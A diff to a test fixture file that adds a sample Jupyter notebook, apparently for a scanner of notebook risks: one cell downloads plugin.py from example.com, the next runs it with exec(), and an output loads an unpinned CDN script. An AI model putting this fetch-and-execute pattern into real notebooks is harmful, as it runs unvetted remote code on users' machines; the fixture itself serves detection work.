@@ -5,7 +5,37 @@ import path from 'node:path';
 
 export const COMMIT = '0123456789abcdef0123456789abcdef01234567';
 
+/** A notebook in which one cell is fetched into, another runs what came, and an output is not what it should be. */
+const NOTEBOOK = {
+  cells: [
+    { cell_type: 'markdown', metadata: {}, source: ['# Fine-tuning\n'] },
+    code(['!pip install datasets'], []),
+    code(['import requests\n', 'text = requests.get("https://example.com/plugin.py").text'], []),
+    code(['exec(text)'], []),
+    code(
+      ['chart'],
+      [
+        { output_type: 'stream', name: 'stdout', text: ['done\n'] },
+        display({ 'text/html': ['<script src="https://cdn.example.com/chart/latest.js"></script>'] }),
+      ],
+    ),
+    code(['from transformers import AutoModel\n', 'model = AutoModel.from_pretrained("acme/tiny")'], []),
+  ],
+  metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } },
+  nbformat: 4,
+  nbformat_minor: 4,
+};
+
+function code(source, outputs) {
+  return { cell_type: 'code', execution_count: null, metadata: {}, outputs, source };
+}
+
+function display(data) {
+  return { output_type: 'display_data', data, metadata: {} };
+}
+
 const FILES = {
+  'tuning.ipynb': `${JSON.stringify(NOTEBOOK, null, 1)}\n`,
   'load.py': 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("acme/tiny")\n',
   'absent.py': 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("acme/absent")\n',
   'fetch.ts': [
